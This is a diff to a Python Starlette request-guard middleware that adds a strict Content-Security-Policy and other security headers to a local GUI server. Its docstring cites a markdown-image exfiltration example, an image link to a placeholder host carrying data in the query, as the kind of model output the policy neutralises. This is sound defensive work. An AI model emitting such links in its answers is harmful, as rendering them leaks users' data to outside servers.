@@ -1,16 +1,27 @@
 """Every request to the GUI's server passes here first: the Host must be this server on loopback (a page of another
 site that rebinds its name to 127.0.0.1 is refused), a present Origin must be this server's, and the request must
 carry the run's token (query, bearer header or the cookie the first page load sets). No CORS headers are ever sent,
-so no other origin can read an answer."""
+so no other origin can read an answer. Every answer carries a strict Content-Security-Policy: the page loads and
+connects to nothing but this server (a model's answer holding ``![x](http://HOST/x.png?d=...)`` fetches nothing),
+runs no inline script, and may not be framed."""
 
 import hmac
 from urllib.parse import parse_qs
 
 from starlette.datastructures import Headers
 from starlette.responses import JSONResponse
-from starlette.types import ASGIApp, Receive, Scope, Send
+from starlette.types import ASGIApp, Message, Receive, Scope, Send
 
 COOKIE = "kairox_token"
+CSP = (
+    "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; "
+    "font-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
+)
+SECURITY_HEADERS = [
+    (b"content-security-policy", CSP.encode()),
+    (b"x-content-type-options", b"nosniff"),
+    (b"referrer-policy", b"no-referrer"),
+]
 
 
 class RequestGuard:
@@ -24,6 +35,8 @@ class RequestGuard:
         if scope["type"] not in ("http", "websocket"):
             await self.app(scope, receive, send)
             return
+        if scope["type"] == "http":
+            send = _with_headers(send)
         headers = Headers(scope=scope)
         host = headers.get("host", "")
         if host not in self.hosts:
@@ -75,3 +88,17 @@ class RequestGuard:
             await send({"type": "websocket.close", "code": 1008})
             return
         await JSONResponse({"error": message}, status_code=status)(scope, receive, send)
+
+
+def _with_headers(send: Send) -> Send:
+    """``send`` that adds :data:`SECURITY_HEADERS` to the start of every answer (those it does not set itself)."""
+
+    async def sending(message: Message) -> None:
+        if message["type"] == "http.response.start":
+            headers = list(message.get("headers", []))
+            present = {name.lower() for name, _ in headers}
+            headers += [(name, value) for name, value in SECURITY_HEADERS if name not in present]
+            message = {**message, "headers": headers}
+        await send(message)
+
+    return sending
